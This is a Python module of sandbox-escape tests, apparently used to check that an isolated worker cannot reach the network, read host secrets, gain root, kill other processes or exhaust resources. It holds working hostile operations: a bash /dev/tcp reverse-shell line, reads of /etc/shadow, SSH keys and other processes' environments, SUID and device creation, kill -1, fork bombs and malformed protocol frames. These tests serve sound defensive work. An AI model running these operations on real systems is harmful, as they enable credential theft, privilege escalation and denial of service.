"""What a tool might do: each function runs inside a worker and returns its loot, if it gets any.

`victims` tells it where things of the host are: ports, paths, process ids.
"""

from __future__ import annotations

import ctypes
import encodings.idna  # noqa: F401 - later it is out of reach of a worker that is not root any more
import mmap
import os
import re
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec

Victims = dict[str, Any]
LIBC = ctypes.CDLL(None, use_errno=True)
PWNED = "slipstream-pwned"
"""What every file is called that an attack leaves behind."""


class Laboratory:
    """A service that runs attacks by name."""

    async def run(self, attack: str, victims: Victims) -> Any:
        """Return an attack's loot."""
        return getattr(sys.modules[__name__], attack)(victims)

    async def ping(self) -> str:
        """Show that this worker is well."""
        return "pong"


def laboratory(options: dict[str, Any]) -> Callable[[], Laboratory]:
    """Return the maker of laboratories."""
    return Laboratory


def _call(name: str, *arguments: Any) -> int:
    """Call the C library; raises OSError."""
    result: int = getattr(LIBC, name)(*arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def _sockets() -> list[int]:
    """Return every socket this process holds: its channel is one of them."""
    found = []
    for file in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(file).st_mode):
                found.append(file)
        except OSError:
            continue
    return found


def _say(data: bytes) -> None:
    for file in _sockets():
        try:
            socket.socket(fileno=os.dup(file)).sendall(data)
        except OSError:
            continue


def _frame(value: Any) -> bytes:
    body = msgspec.msgpack.encode(value)
    return struct.pack(">I", len(body)) + body


# The network.


def tcp_to_loopback(v: Victims) -> Any:
    with socket.create_connection(("127.0.0.1", v["tcp"]), timeout=1.0):
        return "connected"


def tcp_to_ipv6_loopback(v: Victims) -> Any:
    with socket.create_connection(("::1", v["tcp"]), timeout=1.0):
        return "connected"


def udp_to_loopback(v: Victims) -> Any:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"loot", ("127.0.0.1", v["udp"]))


def tcp_to_metadata(v: Victims) -> Any:
    with socket.create_connection(("169.254.169.254", 80), timeout=1.0):
        return "connected"


def dns_query(v: Victims) -> Any:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"\0" * 32, ("8.8.8.8", 53))


def unix_socket(v: Victims) -> Any:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(v["unix"])
        return "connected"


def abstract_socket(v: Victims) -> Any:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(v["abstract"])
        return "connected"


def unix_datagram_without_connecting(v: Victims) -> Any:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        return one.sendto(b"loot", v["unix_datagram"])


def abstract_datagram_without_connecting(v: Victims) -> Any:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        return one.sendto(b"loot", v["abstract_datagram"])


def raw_socket(v: Victims) -> Any:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "raw"


def netlink_socket(v: Victims) -> Any:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return "netlink"


def packet_socket(v: Victims) -> Any:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    return "packet"


def vsock(v: Victims) -> Any:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(1.0)
        sock.connect((2, 80))
        return "connected"


def listen_on_a_port(v: Victims) -> Any:
    sock = socket.socket()
    sock.bind(("0.0.0.0", v["free_port"]))
    sock.listen()
    return "listening"


def reverse_shell(v: Victims) -> Any:
    return subprocess.run(
        ["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{v['tcp']} && echo loot"], capture_output=True
    ).stdout.decode()


def socket_of_another_architecture(v: Victims) -> Any:
    return _call("syscall", 41 | 0x40000000, socket.AF_INET, socket.SOCK_STREAM, 0)


def socket_by_io_uring(v: Victims) -> Any:
    return _call("syscall", 425, 8, ctypes.create_string_buffer(256))


def inherited_files(v: Victims) -> Any:
    """Anything open but the channel, what the event loop holds, and /dev/null."""
    loot = []
    for file in range(3, 256):
        try:
            state = os.fstat(file)
        except OSError:
            continue
        if stat.S_ISREG(state.st_mode) or stat.S_ISDIR(state.st_mode) or stat.S_ISFIFO(state.st_mode):
            loot.append(file)
    return loot or (len(_sockets()) > 3 and "sockets")


# The file system.


def read_shadow(v: Victims) -> Any:
    return Path("/etc/shadow").read_text()[:1]


def read_a_file_of_the_host(v: Victims) -> Any:
    return Path(v["secret_file"]).read_text()


def list_the_run_folder(v: Victims) -> Any:
    return os.listdir(v["folder"])


def read_ssh_keys(v: Victims) -> Any:
    loot: list[str] = []
    for home in (v["home"], "/root", "/home"):
        try:
            loot += [str(p) for p in Path(home).glob("**/.ssh/*")]
        except OSError:
            continue
    return loot


def read_through_dots(v: Victims) -> Any:
    return Path("../" * 40 + v["secret_file"].lstrip("/")).read_text()


def read_through_a_symbolic_link(v: Victims) -> Any:
    link = Path("link")
    link.symlink_to(v["secret_file"])
    return link.read_text()


def read_through_a_hard_link(v: Victims) -> Any:
    os.link(v["secret_file"], "hard")
    return Path("hard").read_text()


def _write(folder: str) -> str:
    Path(folder, PWNED).write_text("x")
    return folder


def write_etc(v: Victims) -> Any:
    return _write("/etc")


def write_home(v: Victims) -> Any:
    return _write(v["home"])


def write_root(v: Victims) -> Any:
    return _write("/")


def write_usr(v: Victims) -> Any:
    return _write("/usr/bin")


def write_var_tmp(v: Victims) -> Any:
    return _write("/var/tmp")


def write_dev_shm(v: Victims) -> Any:
    return _write("/dev/shm")


def write_the_hosts_tmp(v: Victims) -> Any:
    """Inside bubblewrap /tmp is the worker's own."""
    _write("/tmp")
    return None


def write_the_run_folder(v: Victims) -> Any:
    return _write(v["folder"])


def write_our_code(v: Victims) -> Any:
    return _write(str(Path(msgspec.__file__).parent)) + _write(str(Path(__file__).parent))


def write_through_a_symbolic_link(v: Victims) -> Any:
    Path("out").symlink_to(v["folder"])
    return _write("out")


def make_a_suid_program(v: Victims) -> Any:
    """The bit may be set; it must not work."""
    Path("suid").write_bytes(Path("/bin/sh").read_bytes())
    os.chmod("suid", 0o6777)
    found = subprocess.run(["./suid", "-c", "id -u"], capture_output=True).stdout.decode().strip()
    return found == "0" and "root"


def make_a_device(v: Victims) -> Any:
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    return os.open("disk", os.O_RDONLY)


def open_memory_and_disks(v: Victims) -> Any:
    loot = []
    for name in ("mem", "kmem", "sda", "vda", "kmsg", "fuse", "kvm", "loop-control"):
        try:
            loot.append(os.open(f"/dev/{name}", os.O_RDWR))
        except OSError:
            continue
    return loot


def _other_pids() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def environment_of_others(v: Victims) -> Any:
    loot = ""
    for pid in (*_other_pids(), str(v["actor"]), "1"):
        try:
            loot += Path(f"/proc/{pid}/environ").read_text()
        except OSError:
            continue
    return loot


def own_environment(v: Victims) -> Any:
    own = dict(os.environ)
    allowed = {"PATH", "LANG", "PYTHONPATH", "PYTHONHASHSEED", "HOME", "TMPDIR", "PWD", "LC_CTYPE"}
    return {name: own[name] for name in own.keys() - allowed}


def root_of_others(v: Victims) -> Any:
    for pid in (str(v["actor"]), "1"):
        try:
            return os.listdir(f"/proc/{pid}/root/root")
        except OSError:
            continue
    return None


def core_pattern(v: Victims) -> Any:
    Path("/proc/sys/kernel/core_pattern").write_text(Path("/proc/sys/kernel/core_pattern").read_text())
    return "written"


def cgroup_release_agent(v: Victims) -> Any:
    loot = []
    for path in Path("/sys/fs/cgroup").glob("*"):
        try:
            loot.append(os.open(path, os.O_WRONLY))
        except OSError:
            continue
    return loot


# Privileges.


def mount_something(v: Victims) -> Any:
    return not _call("mount", b"tmpfs", os.fsencode(os.getcwd()), b"tmpfs", 0, None) and "mounted"


def unmount_what_hides(v: Victims) -> Any:
    return not _call("umount2", b"/proc", 2) and "unmounted"


def make_mounts_writable(v: Victims) -> Any:
    return not _call("mount", b"none", b"/", None, 0x20 | 0x1000, None) and "remounted"


def change_root(v: Victims) -> Any:
    os.chroot(os.getcwd())
    return "chrooted"


def unshare_users(v: Victims) -> Any:
    return not _call("unshare", 0x10000000) and "unshared"


def clone_into_namespaces(v: Victims) -> Any:
    pid = _call("syscall", 56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "cloned"


def enter_namespaces_of_others(v: Victims) -> Any:
    file = os.pidfd_open(v["actor"])
    return not _call("setns", file, 0x10000000) and "entered"


def become_root(v: Victims) -> Any:
    os.setresuid(0, 0, 0)
    return os.getuid() == 0 and "root"


def sudo_and_su(v: Victims) -> Any:
    shown = subprocess.run(["/bin/su", "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL)
    return shown.stdout.decode().strip() == "0" and "root"


def trace_others(v: Victims) -> Any:
    return not _call("ptrace", 16, v["actor"], 0, 0) and "attached"


def trace_the_parent(v: Victims) -> Any:
    return not _call("ptrace", 16, os.getppid() or 1, 0, 0) and "attached"


def read_memory_of_others(v: Victims) -> Any:
    here = ctypes.create_string_buffer(8)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(here), 8)
    remote = (ctypes.c_uint64 * 2)(v["address"], 8)
    return _call("process_vm_readv", v["actor"], local, 1, remote, 1, 0)


def steal_files_of_others(v: Victims) -> Any:
    return _call("syscall", 438, os.pidfd_open(v["actor"]), 1, 0)


def load_bpf(v: Victims) -> Any:
    return _call("syscall", 321, 5, ctypes.create_string_buffer(128), 128)


def kernel_keys(v: Victims) -> Any:
    return _call("syscall", 250, 0, -3, 1)


def open_by_handle(v: Victims) -> Any:
    return _call("open_by_handle_at", os.open("/", os.O_RDONLY), ctypes.create_string_buffer(64), 0)


# Signals.


def kill_everybody(v: Victims) -> Any:
    os.kill(-1, signal.SIGKILL)


def kill_the_parent(v: Victims) -> Any:
    parent = os.getppid()
    os.kill(parent, signal.SIGKILL)
    return parent and "killed"


def kill_the_actor(v: Victims) -> Any:
    os.kill(v["bystander"], signal.SIGKILL)
    return "killed"


def kill_the_neighbours(v: Victims) -> Any:
    """Numbers near the own one are other workers, or their keepers."""
    hit = []
    for pid in [*range(max(1, os.getpid() - 40), os.getpid() + 40), *range(2, 60)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
                hit.append(pid)
            except OSError:
                continue
    return hit


def kill_the_own_group(v: Victims) -> Any:
    os.killpg(0, signal.SIGKILL)


def stop_itself(v: Victims) -> Any:
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(1000)


# Resources.


def fork_bomb(v: Victims) -> Any:
    while True:
        try:
            os.fork()
        except OSError:
            continue


def shell_fork_bomb(v: Victims) -> Any:
    subprocess.Popen(["/bin/sh", "-c", "f() { f | f & }; f"])
    time.sleep(1000)


def too_many_processes(v: Victims) -> Any:
    for _ in range(64):
        if os.fork() == 0:
            time.sleep(1000)
    return "64 processes"


def too_many_threads(v: Victims) -> Any:
    for _ in range(64):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    return threading.active_count()


def too_much_memory(v: Victims) -> Any:
    return len([bytearray(1 << 24) for _ in range(64)])


def too_much_mapped_memory(v: Victims) -> Any:
    return len(mmap.mmap(-1, 1 << 30))


def shared_memory_bomb(v: Victims) -> Any:
    return _call("shmget", 0, 1 << 30, 0o1600) and "segment"


def memory_files(v: Victims) -> Any:
    return os.memfd_create("hoard")


def one_large_file(v: Victims) -> Any:
    with open("big", "wb") as file:
        for _ in range(32):
            file.write(b"x" * (1 << 20))
    return file.name


def many_large_files(v: Victims) -> Any:
    for number in range(32):
        Path(f"part-{number}").write_bytes(b"x" * (1 << 20))
    return number


def many_empty_files(v: Victims) -> Any:
    for number in range(10_000):
        os.close(os.open(f"empty-{number}", os.O_CREAT | os.O_WRONLY))
    return number


def sparse_file(v: Victims) -> Any:
    with open("sparse", "wb") as file:
        file.truncate(1 << 40)
    return "1 TB"


def too_many_open_files(v: Victims) -> Any:
    return len([os.open("/dev/null", os.O_RDONLY) for _ in range(512)])


def raise_the_limits(v: Victims) -> Any:
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(kind, (1 << 40, 1 << 40))
        except (OSError, ValueError):
            continue
        return kind
    return None


def output_bomb(v: Victims) -> Any:
    return "x" * (64 << 20)


def deep_answer(v: Victims) -> Any:
    value: list[Any] = []
    for _ in range(200):
        value = [value]
    return value


def spin(v: Victims) -> Any:
    while True:
        pass


def spin_in_c(v: Victims) -> Any:
    return bool(re.match(r"(a+)+$", "a" * 64 + "b"))


def sleep_forever(v: Victims) -> Any:
    time.sleep(1e6)


def ignore_every_signal(v: Victims) -> Any:
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    time.sleep(1e6)


def overflow_the_stack(v: Victims) -> Any:
    sys.setrecursionlimit(1 << 30)

    def down() -> None:
        down()

    down()


def exit_at_once(v: Victims) -> Any:
    os._exit(0)


def raise_system_exit(v: Victims) -> Any:
    sys.exit(0)


def crash(v: Victims) -> Any:
    return ctypes.string_at(8)


def abort(v: Victims) -> Any:
    os.abort()


def become_another_program(v: Victims) -> Any:
    os.execv("/bin/sleep", ["sleep", "1000"])


def _daemon(work: Callable[[], Any]) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            work()
        os._exit(0)
    os.wait()


def leave_a_daemon(v: Victims) -> Any:
    for file in _sockets():
        os.set_inheritable(file, True)
    _daemon(lambda: time.sleep(1e6))


def leave_a_daemon_and_exit(v: Victims) -> Any:
    _daemon(lambda: time.sleep(1e6))
    os._exit(0)


def leave_daemons_that_fork(v: Victims) -> Any:
    def respawn() -> None:
        while True:
            if os.fork():
                os._exit(0)
            time.sleep(0.001)

    for _ in range(4):
        _daemon(respawn)


def leave_another_session_spinning(v: Victims) -> Any:
    subprocess.Popen(["/bin/sh", "-c", "trap '' TERM INT HUP; while :; do :; done"], start_new_session=True)


# The protocol.


def close_every_file(v: Victims) -> Any:
    os.closerange(0, 1024)
    time.sleep(1000)


def garbage(v: Victims) -> Any:
    _say(b"\xff\xfe\x00garbage" * 100)


def huge_length(v: Victims) -> Any:
    _say(struct.pack(">I", 0xFFFFFFFF))
    time.sleep(1000)


def length_and_no_more(v: Victims) -> Any:
    _say(struct.pack(">I", 1000) + b"x")
    time.sleep(1000)


def drip(v: Victims) -> Any:
    _say(struct.pack(">I", 100000))
    while True:
        _say(b"\xc0")
        time.sleep(0.01)


def answer_twice(v: Victims) -> Any:
    """Two answers to this call: the second must not become the next call's."""
    for number in range(1, 8):
        _say(_frame({"number": number, "kind": "value", "value": "loot", "text": ""}))


def answer_another_call(v: Victims) -> Any:
    _say(_frame({"number": 99, "kind": "value", "value": "loot", "text": ""}))


def answer_of_unknown_kind(v: Victims) -> Any:
    _say(_frame({"number": 1, "kind": "admin", "value": "loot", "text": ""}))


def answer_that_nests(v: Victims) -> Any:
    body = b"\x91" * 100_000 + b"\xc0"
    _say(struct.pack(">I", len(body)) + body)


def answer_that_declares_too_much(v: Victims) -> Any:
    body = b"\xdd\xff\xff\xff\xff" + b"\xc0" * 64
    _say(struct.pack(">I", len(body)) + body)


def answer_with_an_extension(v: Victims) -> Any:
    body = b"\xc7\x10\x01" + b"x" * 16
    _say(struct.pack(">I", len(body)) + body)
